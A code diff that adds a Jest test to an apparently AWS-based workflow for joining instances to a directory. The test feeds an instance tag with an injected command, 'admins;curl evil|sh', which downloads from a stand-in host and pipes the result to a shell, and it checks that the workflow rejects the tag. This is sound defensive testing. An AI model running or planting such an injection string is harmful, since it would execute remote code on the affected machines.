@@ -96,6 +96,21 @@ describe('join workflow (synthesized ASL, real tasks, simulated world)', () => {
     expect(w.sim.fleet.sentCommands()).toEqual([]);
   });
 
+  test('a hostile login-group tag: fails AT "Read instance" with InvalidInput, nothing done', async () => {
+    const w = world();
+    w.sim.fleet.addInstance({ instanceId: ID, tags: { ...OPT_IN, adGroupName: 'admins;curl evil|sh' } });
+
+    const run = await w.engine.start('join', w.ec2Event(ID, 'running'), { name: 'join-bad-tag' });
+
+    expect(run.status).toBe('FAILED');
+    expect(run.failedState).toBe('Read instance');
+    expect(run.error).toBe(Errors.InvalidInput);
+    expect(run.cause).toMatch(/adGroupName/);
+    expect(statePath(run)).toEqual(['Read instance']);
+    expect(w.sim.fleet.instance(ID)?.tags).toEqual({ ...OPT_IN, adGroupName: 'admins;curl evil|sh' });
+    expect(w.sim.directory.calls).toEqual([]);
+  });
+
   test('SSM never Online: fails AT "Wait for SSM Online" with SsmAgentNotOnline, nothing created', async () => {
     const w = world();
     w.sim.fleet.addInstance({ instanceId: ID, tags: OPT_IN, ssmOnlineAfterSeconds: Infinity });
